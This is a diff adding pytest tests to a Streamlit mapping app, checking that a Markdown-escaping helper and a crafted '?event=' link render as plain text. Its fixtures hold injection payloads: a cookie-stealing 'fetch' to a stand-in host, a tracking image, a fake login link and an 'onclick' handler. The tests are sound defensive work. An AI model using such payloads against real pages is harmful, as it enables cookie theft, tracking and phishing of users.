@@ -162,3 +162,47 @@ def test_review_map_tooltip_shows_a_crafted_location_and_never_runs_it():
     assert tip.count("`") == 2  # the literal's own two backticks, none from the text
     assert "&#36;{fetch(&#x27;//x.test/&#x27;+document.cookie)}" in tip
     assert current_place_marker({"latitude": None, "longitude": None, "location": "x"}) is None
+
+
+#: Text that Streamlit's Markdown turns into an image fetched from elsewhere, a link, a heading,
+#: LaTeX, coloured text or HTML.
+MARKDOWN = ("![x](https://tracker.test/p.png) [log in](https://evil.test) <b onclick=alert(1)>b</b> "
+            "$\\frac{a}{b}$ :red[alarm] # head *em* _em_ `code` \\ ~~s~~ | 1. > q")
+
+
+def test_md_safe_leaves_no_markdown_or_html_to_interpret():
+    """Outlet names, place names, an ACLED location, a URL's ``?event=`` and a file's name went
+    into ``st.markdown``/``st.warning``/``st.subheader`` escaped for HTML only: Markdown still
+    made them an image fetched off the machine, a link, a heading or LaTeX."""
+    import html
+
+    from mapapp.textsafe import md_safe
+
+    safe = md_safe(MARKDOWN)
+    for sign in "$`*_[]()!#|~\\<>=+-.:{}\n":  # no sign of Markdown, LaTeX, directives or HTML is left as itself
+        assert sign not in safe.replace("&#", "").replace(";", ""), sign
+    assert html.unescape(safe) == MARKDOWN  # the entities read back as the text: shown as written
+    assert md_safe("Shafaq News") == "Shafaq News" and md_safe("حي طي") == "حي طي"
+    assert md_safe("two\nlines") == "two lines"
+
+
+def test_a_crafted_event_link_is_shown_as_text_not_markdown(work_dirs, monkeypatch, restore_folium):
+    """``?event=![x](https://tracker.test/p.png)`` in a link someone sends: the "No event …"
+    warning rendered it, so the page fetched an image from another machine."""
+    from streamlit.testing.v1 import AppTest
+
+    seeds, geo, out = work_dirs
+    build(seeds, geo, out)
+    monkeypatch.setenv("QMAP_OUT", str(out))
+    monkeypatch.setenv("QMAP_SKIP_BUILD", "1")
+    monkeypatch.setenv("QMAP_TILES", "none")
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    crafted = "![x](https://tracker.test/p.png) [log in](https://evil.test)"
+    at.query_params["event"] = crafted
+    at.run()
+    assert not at.exception
+    warning = next(w.value for w in at.warning if "No event" in w.value)
+    assert "![" not in warning and "](" not in warning and "[" not in warning
+    import html
+
+    assert crafted in html.unescape(warning)  # shown as written (character references)
